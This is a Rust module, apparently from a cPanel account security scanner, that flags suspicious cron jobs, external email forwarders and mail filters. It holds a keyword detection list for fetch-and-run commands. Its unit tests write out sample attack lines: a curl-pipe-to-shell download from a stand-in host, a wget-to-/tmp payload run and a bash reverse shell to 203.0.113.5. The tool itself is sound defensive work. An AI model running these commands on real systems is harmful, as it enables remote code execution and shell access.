//! Account-level persistence: cron jobs, forwarders and filters, read from cPanel (one batch
//! plus one API 2 call for cron).

use serde_json::Value;

use super::{Finding, Reason, Subject};
use crate::uapi::{Call, UapiError};

pub fn calls() -> Vec<Call> {
    vec![Call::new("Email", "list_forwarders"), Call::new("Email", "list_filters")]
}

pub fn cron_call() -> Call {
    Call::new("Cron", "listcron")
}

/// Removes one cron job by its `linekey`; cPanel reports the outcome only in `data[0].status`.
pub fn remove_cron_call(linekey: &str) -> Call {
    Call::new("Cron", "remove_line").arg("linekey", linekey)
}

fn s(v: &Value, k: &str) -> String {
    match v.get(k) {
        Some(Value::String(x)) => x.clone(),
        Some(Value::Number(n)) => n.to_string(),
        _ => String::new(),
    }
}

/// Commands that fetch or decode code and run it, the usual shape of a reinfection job.
fn downloads_code(cmd: &str) -> bool {
    let c = cmd.to_ascii_lowercase();
    let fetches =
        ["curl ", "wget ", "fetch ", "lwp-download", "base64 -d", "base64 --decode", "python -c", "perl -e", "php -r"]
            .iter()
            .any(|p| c.contains(p));
    let runs =
        c.contains("| sh") || c.contains("|sh") || c.contains("| bash") || c.contains("|bash") || c.contains("eval");
    fetches && (runs || c.contains("/tmp/") || c.contains("/dev/shm")) || c.contains("/dev/tcp/")
}

/// Findings from the answers to [`calls`] (in order) and [`cron_call`]. Errors are returned
/// as texts so the page can say the review could not be completed.
pub fn findings(
    results: Vec<Result<Value, UapiError>>,
    cron: Result<Value, UapiError>,
    own_domains: &[String],
) -> Result<Vec<Finding>, String> {
    let mut it = results.into_iter();
    let forwarders = it.next().ok_or("no answer")?.map_err(|e| e.to_string())?;
    let filters = it.next().ok_or("no answer")?.map_err(|e| e.to_string())?;
    let cron = cron.map_err(|e| e.to_string())?;
    let mut out = Vec::new();
    // `Cron::listcron` records have `linekey` and no `line`; the last one is only `{count}`.
    for job in cron.as_array().into_iter().flatten() {
        let command = s(job, "command");
        let linekey = s(job, "linekey");
        if command.is_empty() || linekey.is_empty() {
            continue;
        }
        let when =
            ["minute", "hour", "day", "month", "weekday"].iter().map(|k| s(job, k)).collect::<Vec<_>>().join(" ");
        let reason = if downloads_code(&command) { Reason::CronDownloadsCode } else { Reason::CronReview };
        let evidence: String = format!("{when} {command}").chars().take(160).collect();
        out.push(Finding::new(Subject::Cron { linekey, command }, vec![reason], evidence));
    }
    for f in forwarders.as_array().into_iter().flatten() {
        let (address, to) = (s(f, "dest"), s(f, "forward"));
        let host = to.rsplit('@').next().unwrap_or("").to_ascii_lowercase();
        let own = own_domains.iter().any(|d| host == *d || host.ends_with(&format!(".{d}")));
        if !own && to.contains('@') {
            let evidence = format!("{address} → {to}");
            out.push(Finding::new(Subject::Forwarder { address, to }, vec![Reason::ForwarderExternal], evidence));
        }
    }
    for f in filters.as_array().into_iter().flatten() {
        let (account, name) = (s(f, "account"), s(f, "filtername"));
        if !name.is_empty() {
            let evidence = format!("{account}: {name}");
            out.push(Finding::new(Subject::Filter { account, name }, vec![Reason::FilterReview], evidence));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::downloads_code;

    #[test]
    fn reinfection_jobs_are_recognised() {
        assert!(downloads_code("curl -s http://bad.example/k.sh | sh"));
        assert!(downloads_code("wget -q -O /tmp/.x http://x.example/a; php /tmp/.x"));
        assert!(downloads_code("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"));
        assert!(!downloads_code("/usr/local/bin/php /home/demo/public_html/wp-cron.php"));
        assert!(!downloads_code("curl -s https://demo-shop.example/wp-cron.php > /dev/null"));
    }
}
